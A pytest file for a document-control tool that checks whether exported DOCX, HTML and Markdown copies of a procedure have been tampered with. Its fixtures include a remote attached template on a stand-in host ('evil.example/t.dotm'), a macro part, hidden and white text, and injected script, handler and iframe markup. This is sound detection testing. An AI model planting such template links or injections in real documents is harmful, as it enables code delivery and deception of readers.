"""Where a copy was altered: each way to change what it says is told; what editors do is not."""

import re
import struct
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from firm import Firm
from test_library_judged import changed, told

from docctl import Procedure, State, Text
from docctl.model.answers.verified import VerifiedCopy

BODY = """\
## Purpose

Test every casing at 6 bar for ~~5~~ 10 minutes[^why]. See [the list](https://example.org/list).

![Valve](valve.png)

## Limits

| Part | Bar |
|---|---|
| Casing | 6 |
| Seal | 4 |

1. Close the valve.
2. Open the *second* valve, 10<sup>3</sup> litres.

- [ ] Done

[^why]: It was agreed in 2024.
"""


def picture(shade: int) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        check = zlib.crc32(kind + content)
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)

    rows = b"".join(b"\0" + bytes([shade]) * 8 for _ in range(8))
    head = struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0)
    chunks = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def written(firm: Firm, state: State = State.EFFECTIVE) -> str:
    number = firm.new(body="Soon.")
    text = Text(Procedure(title="Pressure test"), BODY, {"valve.png": picture(128)})
    firm.by("ben").save_text(number, text)
    steps = {State.DRAFT: (), State.EFFECTIVE: ("submit", "sign", "release")}[state]
    for step in steps:
        getattr(firm, step)(number)
    return number


def names(found: VerifiedCopy, words: str) -> bool:
    """Return whether these words stand where, as what or in place of what a copy was altered."""
    return any(words in f"{one.place} {one.expected} {one.found}" for one in found.alterations)


def replaced(old: str, new: str) -> Callable[[str], str]:
    return lambda text: text.replace(old, new, 1)


def before(mark: str, xml: str) -> Callable[[str], str]:
    return lambda text: text.replace(mark, xml + mark, 1)


def within(words: str, look: str) -> Callable[[str], str]:
    """Give the run that says these words another look."""
    return lambda text: re.sub(
        rf"<w:r>(<w:t[^>]*>[^<]*{words})", rf"<w:r><w:rPr>{look}</w:rPr>\1", text, count=1
    )


RUN = "<w:r><w:t>{}</w:t></w:r>"
PARAGRAPH = "<w:p><w:r>{}<w:t>{}</w:t></w:r></w:p>"
END = "<w:sectPr>"
TEXT_BOX = (
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox>'
    "<w:txbxContent><w:p><w:r><w:t>Twice a year only</w:t></w:r></w:p></w:txbxContent>"
    "</v:textbox></v:shape></w:pict></w:r></w:p>"
)
TRACKED = '<w:ins w:id="900" w:author="Eve"><w:r><w:t>Not</w:t></w:r></w:ins>'

#: What was done to the main part of a DOCX copy, and words that must be told.
ALTERED: Mapping[str, tuple[Callable[[str], str], str]] = {
    "a number": (replaced("6 bar", "60 bar"), "60 bar"),
    "a word in a table": (replaced(">Seal<", ">Shaft<"), "Shaft"),
    "a heading": (replaced(">Limits<", ">Advice<"), "Advice"),
    "a paragraph more": (before(END, PARAGRAPH.format("", "Or not at all")), "Or not at all"),
    "a paragraph less": (
        lambda text: re.sub(r"<w:p>(?:(?!</w:p>).)*Close the valve.*?</w:p>", "", text, count=1),
        "Close the valve.",
    ),
    "a footnote mark less": (
        lambda text: re.sub(r"<w:footnoteReference [^>]*/>", "", text),
        "[^1]",
    ),
    "no longer crossed out": (replaced("<w:strike/>", ""), "5 10 minutes"),
    "no longer raised": (
        replaced(
            '<w:vertAlign w:val="superscript"/></w:rPr><w:t xml:space="preserve">3',
            '</w:rPr><w:t xml:space="preserve">3',
        ),
        "103 litres",
    ),
    "crossed out": (within("Close the valve", "<w:strike/>"), "~~Close the valve.~~"),
    "hidden": (within("Close the valve", "<w:vanish/>"), "Close the valve."),
    "white": (within("Close the valve", '<w:color w:val="FFFFFF"/>'), "Close the valve."),
    "too small": (within("Close the valve", '<w:sz w:val="2"/>'), "Close the valve."),
    "hidden words more": (
        before(END, PARAGRAPH.format("<w:rPr><w:vanish/></w:rPr>", "Secret")),
        "Secret",
    ),
    "a text box": (before(END, TEXT_BOX), "Twice a year only"),
    "a tracked insertion": (
        lambda text: re.sub(r"(<w:r><w:t[^>]*>Close)", TRACKED + r"\1", text, count=1),
        "inserted by Eve: Not",
    ),
    "a tracked deletion": (
        lambda text: re.sub(
            r"<w:r><w:t([^>]*)>(Close the valve\.)</w:t></w:r>",
            r'<w:del w:id="901" w:author="Eve"><w:r><w:delText\1>\2</w:delText></w:r></w:del>',
            text,
            count=1,
        ),
        "deleted by Eve: Close the valve.",
    ),
    "a field that could say anything": (
        before(
            END,
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT x'
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        ),
        "INCLUDETEXT x",
    ),
    "words bound to data": (
        before(
            END,
            '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/></w:sdtPr>'
            "<w:sdtContent><w:p/></w:sdtContent></w:sdt>",
        ),
        "words bound to data",
    ),
    "a foreign chunk": (before(END, '<w:altChunk r:id="rId1"/>'), "altChunk"),
    "a page head less": (lambda text: re.sub(r"<w:headerReference [^>]*/>", "", text), "PRO-"),
    "a first page without head and foot": (before("</w:sectPr>", "<w:titlePg/>"), "says nothing"),
    "a chart": (
        before(
            END,
            '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://x/chart"/>'
            "</a:graphic></wp:inline></w:drawing></w:r></w:p>",
        ),
        "http://x/chart",
    ),
    "a picture behind the pages": (
        replaced("<w:body>", '<w:background w:color="FFFFFF"><w:drawing/></w:background><w:body>'),
        "picture behind the pages",
    ),
    "the day it speaks of": (replaced("(as of 2026-01-05)", "(as of 2026-01-04)"), "as of 2026"),
    "a signature": (replaced("Eva", "Max"), "Max"),
    "the numbers of a list": (
        lambda text: re.sub(r'<w:numId w:val="6"/>', "", text),
        "1. Close the valve.",
    ),
    "a heading that has its number from its style": (
        lambda text: '<w:pStyle w:val="BodyText"/>'.join(
            text.rsplit('<w:pStyle w:val="Heading1"/>', 1)
        ),
        "2 Limits",
    ),
}


@pytest.mark.parametrize("name", ALTERED)
def test_what_changes_the_words_of_a_docx_copy_is_told(firm: Firm, place: Path, name: str) -> None:
    file = firm.ada.export(written(firm), place / "copy.docx")
    change, words = ALTERED[name]

    found = told(firm, changed(file, change))

    assert found.verdict == "altered"
    assert names(found, words), found.alterations


#: What editors do to a part without changing what a copy says.
HARMLESS: Mapping[str, Callable[[str], str]] = {
    "runs are split": lambda text: text.replace(
        "Close the valve", 'Close</w:t></w:r><w:r><w:t xml:space="preserve"> the valve'
    ),
    "another font": within("Close the valve", '<w:rFonts w:ascii="Comic Sans MS"/><w:b/>'),
    "another style": lambda text: '<w:pStyle w:val="BodyText"/>'.join(
        text.rsplit('<w:pStyle w:val="Compact"/>', 1)
    ),
    "empty paragraphs": before(END, "<w:p/><w:p/>"),
    "marks of a spelling checker": replaced("<w:r>", '<w:proofErr w:type="spellStart"/><w:r>'),
    "no-break spaces": replaced("6 bar", "6\u00a0bar"),
    "soft hyphens": replaced("casing", "cas\u00ading"),
    "a bookmark": replaced("<w:r>", '<w:bookmarkStart w:id="99" w:name="x"/><w:r>'),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_what_editors_do_to_looks_is_no_alteration(firm: Firm, place: Path, name: str) -> None:
    file = firm.ada.export(written(firm), place / "copy.docx")

    found = told(firm, changed(file, HARMLESS[name]))

    assert found.alterations == ()
    assert found.verdict == "current"


PARTS: Mapping[str, tuple[str, Callable[[str], str], str]] = {
    "a page head": ("word/header_portrait.xml", replaced("Revision 1", "Revision 7"), "Revision 7"),
    "a page foot": (
        "word/footer_portrait.xml",
        replaced("Uncontrolled when printed", "Controlled"),
        "Controlled",
    ),
    "a footnote": ("word/footnotes.xml", replaced("2024", "2025"), "2025"),
    "a link": ("word/_rels/document.xml.rels", replaced("example.org", "example.com"), ".com"),
    "a template from elsewhere": (
        "word/_rels/document.xml.rels",
        replaced(
            "</Relationships>",
            '<Relationship Id="rIdX" TargetMode="External" Target="https://evil.example/t.dotm" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate"/></Relationships>',
        ),
        "https://evil.example/t.dotm",
    ),
    "the style of the text": (
        "word/styles.xml",
        replaced("<w:rPrDefault><w:rPr>", "<w:rPrDefault><w:rPr><w:vanish/>"),
        "Uncontrolled when printed",
    ),
    "a property": ("docProps/custom.xml", replaced(">effective<", ">superseded<"), "superseded"),
}


@pytest.mark.parametrize("name", PARTS)
def test_what_changes_other_parts_of_a_docx_copy_is_told(
    firm: Firm, place: Path, name: str
) -> None:
    file = firm.ada.export(written(firm), place / "copy.docx")
    part, change, words = PARTS[name]

    found = told(firm, changed(file, change, part))

    assert found.verdict == "altered"
    assert names(found, words), found.alterations


def added(file: Path, **parts: bytes) -> Path:
    """Put parts into a package, or others in the place of those of the same name."""
    paper = BytesIO()
    names = {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()}
    with ZipFile(file) as old, ZipFile(paper, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in names:
                new.writestr(name, old.read(name))
        for name, data in names.items():
            new.writestr(name, data)
    other = file.with_name("added.docx")
    other.write_bytes(paper.getvalue())
    return other


def test_another_picture_is_told_as_replaced(firm: Firm, place: Path) -> None:
    number = written(firm)
    file = firm.ada.export(number, place / "copy.docx")
    with ZipFile(file) as archive:
        (name,) = (one for one in archive.namelist() if "media" in one)

    found = told(firm, added(file, **{name: picture(200)}))

    assert found.verdict == "altered"
    assert all("[picture " in one.found for one in found.alterations)
    html = firm.ada.export(number, place / "copy.html")
    other = changed(html, lambda text: re.sub(r"(data:image/png;base64,)\w{80}", r"\1", text))
    assert told(firm, other).verdict == "altered"


def test_macros_and_comments_are_told(firm: Firm, place: Path) -> None:
    file = firm.ada.export(written(firm), place / "copy.docx")

    (one,) = told(firm, added(file, word__vbaProject_dot_bin=b"macro")).alterations

    assert one.place == "macros"


def test_a_watermark_that_was_taken_away_is_told(firm: Firm, place: Path) -> None:
    file = firm.ada.export(written(firm, State.DRAFT), place / "copy.docx")
    assert told(firm, file).verdict == "draft"

    def cleaned(text: str) -> str:
        return re.sub(r"<w:r><w:pict>.*?</w:pict></w:r>", "", text)

    found = told(firm, changed(file, cleaned, "word/header_portrait.xml"))

    assert found.verdict == "altered"
    assert "DRAFT" in found.alterations[0].expected


#: What was done to a page, and words that must be told.
PAGES: Mapping[str, tuple[Callable[[str], str], str]] = {
    "a script": (replaced("</body>", "<script>alert(1)</script></body>"), "alert(1)"),
    "a handler": (replaced("<main>", '<main onclick="x()">'), "x()"),
    "a style": (replaced("</style>", ".facts { display: none }</style>"), "display: none"),
    "hidden words": (replaced("<article", "<article hidden"), "hidden"),
    "a frame": (replaced("</main>", '<iframe src="//x"></iframe></main>'), "iframe"),
    "a link": (replaced("example.org/list", "example.org/other"), "example.org/other"),
    "a fact for programs": (
        replaced(
            'name="docctl.Status" content="effective"', 'name="docctl.Status" content="draft"'
        ),
        "draft",
    ),
    "a picture from outside": (
        lambda text: re.sub(r'src="data:[^"]*"', 'src="https://x.example/a.png"', text),
        "https://x.example/a.png",
    ),
}


@pytest.mark.parametrize("name", PAGES)
def test_what_changes_a_page_is_told(firm: Firm, place: Path, name: str) -> None:
    file = firm.ada.export(written(firm), place / "copy.html")
    change, words = PAGES[name]

    found = told(firm, changed(file, change))

    assert found.verdict == "altered"
    assert names(found, words), found.alterations


#: What was done to a Markdown copy, and words that must be told.
SOURCES: Mapping[str, tuple[Callable[[str], str], str]] = {
    "the front matter": (replaced("status: effective", "status: draft"), "draft"),
    "a line of it less": (replaced("status: effective\n", ""), "status"),
    "a link": (replaced("example.org/list", "example.org/other"), "example.org/other"),
    "a row less": (lambda text: re.sub(r"\| Seal .*\n", "", text), "Seal | 4"),
    "a tick": (replaced("- [ ] Done", "- [x] Done"), "\u2612 Done"),
    "raw HTML": (replaced("Close the", "<script>x</script>Close the"), "<script>"),
    "a footnote": (replaced("2024", "2025"), "2025"),
}


@pytest.mark.parametrize("name", SOURCES)
def test_what_changes_a_markdown_copy_is_told(firm: Firm, place: Path, name: str) -> None:
    file = firm.ada.export(written(firm), place / "copy.md")
    change, words = SOURCES[name]

    found = told(firm, changed(file, change))

    assert found.verdict == "altered"
    assert names(found, words), found.alterations


def test_a_markdown_copy_may_have_other_line_ends_and_miss_its_files(
    firm: Firm, place: Path
) -> None:
    file = firm.ada.export(written(firm), place / "copy.md")
    text = file.read_text(encoding="utf-8").replace("\n", "\r\n")
    other = place / "elsewhere" / "copy.md"
    other.parent.mkdir()
    other.write_bytes(b"\xef\xbb\xbf" + text.encode())

    found = told(firm, other)

    assert found.verdict == "current"
    assert found.sentence.endswith("1 of the files that belong beside it are missing")

    (beside,) = (one for one in place.rglob("*.png"))
    beside.write_bytes(picture(1))
    (one,) = told(firm, file).alterations
    assert one.place.startswith("the file ")
